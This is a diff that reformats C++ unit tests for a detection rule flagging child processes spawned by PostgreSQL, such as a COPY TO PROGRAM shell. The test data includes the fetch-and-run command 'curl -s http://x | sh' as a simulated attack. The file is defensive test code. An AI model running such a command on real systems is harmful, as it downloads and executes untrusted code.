@@ -9,13 +9,14 @@ const char* kRule = "process.database-spawned-child";
 const char* kPg = "/usr/lib/postgresql/15/bin/postgres";
 
 TEST(DatabaseChild, CopyToProgramShell) {
-  const auto f = of_rule(run(snapshot({
-                             proc(100, 1, "postgres", kPg),
-                             proc(101, 100, "postgres", kPg, {"postgres: postgres postgres 127.0.0.1(5000) COPY"}),
-                             proc(102, 101, "sh", "/usr/bin/dash", {"sh", "-c", "curl -s http://x | sh"}),
-                             proc(103, 102, "curl", "/usr/bin/curl", {"curl", "-s", "http://x"}),
-                         })),
-                         kRule);
+  const auto f = of_rule(
+      run(snapshot({
+          proc(100, 1, "postgres", kPg),
+          proc(101, 100, "postgres", kPg, {"postgres: postgres postgres 127.0.0.1(5000) COPY"}),
+          proc(102, 101, "sh", "/usr/bin/dash", {"sh", "-c", "curl -s http://x | sh"}),
+          proc(103, 102, "curl", "/usr/bin/curl", {"curl", "-s", "http://x"}),
+      })),
+      kRule);
   ASSERT_EQ(f.size(), 2u);
   EXPECT_EQ(pid_of(f[0]), 102);
   EXPECT_EQ(pid_of(f[1]), 103);
@@ -60,8 +61,9 @@ TEST(DatabaseChild, OwnProgramsAndAllowedArchiveCommandsAreSilent) {
 TEST(DatabaseChild, AllowListIsConfigurable) {
   HuntConfig c;
   c.database_child_allow = {"cp"};
-  const auto s = snapshot({proc(200, 1, "postgres", kPg),
-                           proc(203, 200, "sh", "/usr/bin/dash", {"sh", "-c", "cp pg_wal/1 /archive/1"})});
+  const auto s =
+      snapshot({proc(200, 1, "postgres", kPg),
+                proc(203, 200, "sh", "/usr/bin/dash", {"sh", "-c", "cp pg_wal/1 /archive/1"})});
   EXPECT_TRUE(of_rule(run(s, c), kRule).empty());
   EXPECT_EQ(of_rule(run(s), kRule).size(), 1u);
 }
